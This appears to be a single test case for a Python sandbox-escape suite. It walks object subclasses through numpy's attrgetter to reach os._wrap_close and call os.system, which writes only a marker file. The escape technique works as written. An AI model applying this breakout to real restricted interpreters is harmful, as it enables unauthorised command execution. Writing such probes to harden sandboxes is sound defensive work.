# attempts: os._wrap_close found in object.__subclasses__(); its __init__.__globals__ is os: system()
# effect: exec
# step: classic subclass walk
ag = np.ma.core.operator.attrgetter
subs = ag('__class__.__base__.__subclasses__')(())()
wc = [c for c in subs if ag('__name__')(c) == '_wrap_close'][0]
g = ag('__init__.__globals__')(wc)
g['system']('touch @@MARKER_DIR@@/wrap_close_system')
